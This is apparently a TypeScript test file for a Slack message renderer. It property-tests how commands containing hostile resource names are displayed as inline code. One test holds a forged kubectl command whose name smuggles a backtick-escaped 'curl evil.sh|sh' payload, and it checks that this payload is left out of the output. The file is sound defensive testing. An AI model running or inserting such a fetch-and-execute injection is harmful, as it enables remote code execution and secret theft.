import assert from 'node:assert/strict';
import { test } from 'node:test';
import { slackMessage, slackText } from '../../../src/message/render/slack.ts';
import type { Command } from '../../../src/model/command.ts';
import { fc } from '../../fast-check.ts';
import { hostileName, linesWith } from '../../model/hostile-names.ts';
import { notifications } from './sample.ts';

/** What Slack makes of its three entities. */
const read = (text: string): string => text.replaceAll('&lt;', '<').replaceAll('&gt;', '>').replaceAll('&amp;', '&');

const told = (command: Command) => ({ ...notifications.open, nextStep: { command, changesCluster: false } });

test('Slack shows the commands that 10,000 hostile names come into as they are, each as one piece of code', () => {
  const names = fc.sample(hostileName, { numRuns: 10_000 });
  const lines = new Set(names.flatMap((name) => linesWith(name).filter((line) => line !== undefined)));
  assert.ok(lines.size > 2_000, `only ${lines.size} lines`);
  for (const line of lines) {
    const [, code] = /^Next: `([^`]*)`$/m.exec(slackText(told(line)).text) ?? [];
    assert.equal(read(code ?? ''), line);
  }
});

test('a command with a backtick, which no builder makes, is not shown: Slack would end its code there', () => {
  const forged = "kubectl get secret 'x`;curl evil.sh|sh;`' -n team-a" as Command;
  assert.doesNotMatch(JSON.stringify([slackMessage(told(forged)), slackText(told(forged))]), /kubectl get secret/);
});
